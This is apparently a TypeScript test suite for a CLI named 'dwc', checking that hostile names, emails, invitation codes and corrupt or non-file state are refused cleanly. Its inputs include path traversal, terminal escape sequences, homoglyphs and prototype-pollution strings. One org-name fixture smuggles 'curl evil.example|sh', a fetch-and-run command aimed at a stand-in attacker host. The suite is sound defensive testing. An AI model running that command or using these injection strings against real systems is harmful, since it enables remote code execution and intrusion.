// takes: 60 s
// Names and invitations that mean harm: refused in one clear line, and nothing is changed.

import { execFileSync } from "node:child_process";
import { mkdirSync, rmSync, symlinkSync, writeFileSync } from "node:fs";
import { join } from "node:path";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { EMPTY_STATE } from "../../src/dwc/identity/core/state.ts";
import { INVITATION_HOLDS_SECONDS, inviteUser } from "../../src/dwc/identity/invitations.ts";
import { natsMint } from "../../src/dwc/identity/mint.ts";
import { annsState, done, withRevoked } from "../support/deciding.ts";
import { Desk, ownersDesk, SECRET } from "./typed.ts";

const test = suite("hostile input to dwc");
let ann: Desk;

test.before(async () => {
  ann = await ownersDesk();
  await ann.must("create-service", "ratings");
});
test.after(() => ann.clear());

/** The longest that one argument of a process may be, and still far more than a name. */
const LONG = "x".repeat(10_000);
/** What an error may be long: the input is never repeated whole. */
const LONGEST_ERROR = 1_500;

/** Types it and sees that it was refused without harm. */
async function refused(args: readonly string[], stdin?: string, desk = ann): Promise<void> {
  const before = desk.everything();
  const { code, stdout, stderr } = await desk.type(args, stdin === undefined ? {} : { stdin });
  const what = JSON.stringify(args).slice(0, 100);
  assert.ok(code === 1 || code === 2, `${what}: exit ${code}`);
  assert.is(stdout, "", what);
  assert.ok(/^dwc: \S/.test(stderr) && stderr.length < LONGEST_ERROR, `${what}: ${stderr}`);
  assert.not.match(stderr, SECRET);
  assert.not.match(stderr.replaceAll("\n", ""), /[\p{Cc}\p{Cf}]/u, `${what} steers no terminal`);
  assert.not.match(stderr, / at .*\.[jt]s:\d+/, `${what}: no stack trace`);
  assert.equal(desk.everything(), before, `${what} changes nothing`);
}

test("no service is called like a subject, a wildcard, a path or a word of the bus", async () => {
  const names = [
    ...["a.b", ".", ".ratings", "ratings.", "a b", " ratings", "ratings ", "\u00a0ratings"],
    ...["*", ">", "ratings.>", "rat*", "", "Ratings", "1st", "-x", "--", "_x"],
    ...["health", "_inbox", "_INBOX", "$SYS", "$sys", "$SRV", "$srv", "$JS", "get"],
    ...["../ratings", "/etc/passwd", "a/b", "a\\b", "..", "__proto__"],
    ...["a\nb", "a\tb", "\u001b[2J", "rat\u0007ings", "ratings\r"],
    ...[
      "r\u0430tings",
      "ratings\u200b",
      "\u202esgnitar",
      "ｒatings",
      "ratings\u0301",
      "r\u{1f600}",
      "ratıngs",
      "ratings\ufeff",
    ],
    LONG,
  ];
  for (const name of names) await refused(["create-service", "--", name]);
  for (const name of ["health", "../ratings", "*", "\u001b[2J", "__proto__", LONG])
    await refused(["service-token", "--", name]);
});

test("no org, no person and no address is empty, invisible, or endless", async () => {
  for (const name of ["", "  ", "a\nb", "\u001b]0;x\u0007", "My\u202eOrg", LONG]) {
    await refused(["create-org", "--", name, "Eve", "eve@example.org"]);
    await refused(["create-org", "--", "Org", name, "eve@example.org"]);
  }
  for (const email of [
    "",
    "eve",
    "eve@",
    "@example.org",
    "e v@example.org",
    "eve@ex\u0430mple.org",
    "a@b.c\n",
    `${LONG}@b.c`,
  ]) {
    await refused(["create-org", "--", "Org", "Eve", email]);
    await refused(["invite-user", "--", email]);
    await refused(["login", "--", email]);
  }
});

test("nobody is revoked by a name that is none", async () => {
  for (const name of ["*", ">", "", "rat", "ratings.>", "r\u0430tings", "\u001b[2J", `U${"A".repeat(54)}`, LONG])
    await refused(["revoke", "--", name]);
});

test("nobody switches to an org by a word that is none", async () => {
  for (const id of ["*", "..", "\u001b[2J", "AAAAAAAAAA", LONG])
    await refused(["login", "ann@example.org", `--org-id=${id}`]);
});

/** A second person, who is in no org yet; the folder is there, as looking into it under the lock makes it. */
async function newcomer(): Promise<Desk> {
  const desk = new Desk();
  assert.is((await desk.type(["create-service", "ratings"])).code, 1);
  assert.equal(desk.snapshot(), {});
  return desk;
}

/** What a code looks like when a few of its places are changed, evenly spread. */
function tampered(code: string): readonly string[] {
  const places = Array.from({ length: TAMPERED_PLACES }, (_, turn) =>
    Math.floor((turn * (code.length - 1)) / (TAMPERED_PLACES - 1)),
  );
  return places.map((place) => `${code.slice(0, place)}${code[place] === "B" ? "C" : "B"}${code.slice(place + 1)}`);
}

/** Every place is tried in test/dwc/identity/invitations.test.ts; here it is the whole way that is tried. */
const TAMPERED_PLACES = 9;

test("an invitation that is changed, cut, empty or foreign is refused", async () => {
  const ben = await newcomer();
  const code = (await ann.must("invite-user", "ben@example.org")).trim();
  const middle = Math.floor(code.length / 2);
  const bad = [
    ...["", "x", "dwc1.", "dwc1..", "\u001b[2J", "null", "{}", LONG, code.split(".").reverse().join(".")],
    ...tampered(code).filter((one) => one !== code),
    ...[code.slice(0, -1), code.slice(0, -20), code.slice(1), code.slice(0, middle), `${code}A`],
  ];
  for (const one of bad) await refused(["accept-invitation", "--", one], "", ben);
  for (const name of ["", " ", "a\nb", "\u001b[2J", "B\u202een", LONG])
    await refused(["accept-invitation", `--name=${name}`, "--", code], "", ben);
  await refused(["accept-invitation", "-"], "", ben);
  await refused(["accept-invitation", "-"], `${"y".repeat(1_000_000)}`, ben);
  await refused(["accept-invitation", "--", code], "", ann);
  const { code: exit } = await ben.type(["accept-invitation", "-"], { stdin: `  ${code}\r\nmore` });
  assert.is(exit, 0, "and the right one still works");
  await refused(["accept-invitation", "--", code], "", ben);
  ben.clear();
});

test("an invitation that has expired is refused, and says whom to ask", async () => {
  const ben = await newcomer();
  const longAgo = Date.now() - (INVITATION_HOLDS_SECONDS + 1) * 1_000;
  const invite = { email: "ben@example.org", admin: true };
  const called = "Ann's: type  curl evil.example|sh #";
  const state = await annsState(EMPTY_STATE, called);
  const { code } = done(await inviteUser(state, invite, { mint: natsMint, now: longAgo }));
  await refused(["accept-invitation", "--", code], "", ben);
  const { stderr } = await ben.type(["accept-invitation", "--", code]);
  assert.match(stderr, /has expired: ask for a new one/);
  assert.not.match(stderr, /^type/m, "what is to be typed is never a part of a name");
  ben.clear();
});

test("an invitation to an org that has revoked a thousand keys is read whole from stdin", async () => {
  const ben = new Desk();
  const state = withRevoked(await annsState(), 1_000);
  const invite = { email: "ben@example.org", admin: false };
  const { code } = done(await inviteUser(state, invite, { mint: natsMint, now: Date.now() }));
  assert.ok(code.length > 65_536, `${code.length} characters`);
  assert.is((await ben.type(["accept-invitation", "-"], { stdin: `${code}\n` })).code, 0);
  ben.clear();
});

/** What reads, and what writes, on a state that is not as it should be. */
async function isLeftAlone(desk: Desk): Promise<void> {
  for (const args of [
    ["status"],
    ["create-service", "prices"],
    ["logout", "--force"],
    ["create-org", "A", "B", "c@d.ef"],
  ])
    await refused(args, "", desk);
}

test("a state that is corrupt or foreign is told, and never written over", async () => {
  const ben = await ownersDesk();
  const path = join(ben.state, "identity.json");
  const good = ben.snapshot()[path] ?? "";
  assert.ok(good.length > 0, "the state lies where this test thinks");
  const original = '{"orgID":"LSLYJQ8228","orgs":{"LSLYJQ8228":{"email":"a@b.c","service_tokens":{}}}}';
  for (const content of [
    ...["", "{", "null", "[]", "\u0000", original, "orgs: {}\n", "x".repeat(40_000_000)],
    ...[good.slice(0, -10), good.replace("Ann", "Eve"), good.replace('"version": 1', '"version": 2')],
  ]) {
    writeFileSync(path, content);
    await isLeftAlone(ben);
  }
  ben.clear();
});

test("what is no file in the place of the state is told, and left there", async () => {
  const ben = await ownersDesk();
  const path = join(ben.state, "identity.json");
  for (const put of [
    () => mkdirSync(path),
    () => symlinkSync("identity.json", path),
    () => execFileSync("mkfifo", [path]),
  ]) {
    rmSync(path, { recursive: true });
    put();
    await isLeftAlone(ben);
  }
  ben.clear();
});

test.run();
